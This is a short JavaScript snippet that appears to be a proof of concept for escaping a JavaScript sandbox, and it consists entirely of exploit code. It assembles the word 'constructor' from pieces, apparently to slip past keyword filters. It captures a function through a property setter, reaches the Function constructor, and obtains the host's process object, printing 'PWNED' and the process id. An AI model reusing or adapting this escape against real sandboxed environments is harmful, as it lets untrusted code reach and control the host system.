const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
let g;
const o = {};
Object.defineProperty(o, 'go', { set(f) { g = f; } });
Object.assign(o, t);
console.log('PWNED', g(fn)('return process')().pid);
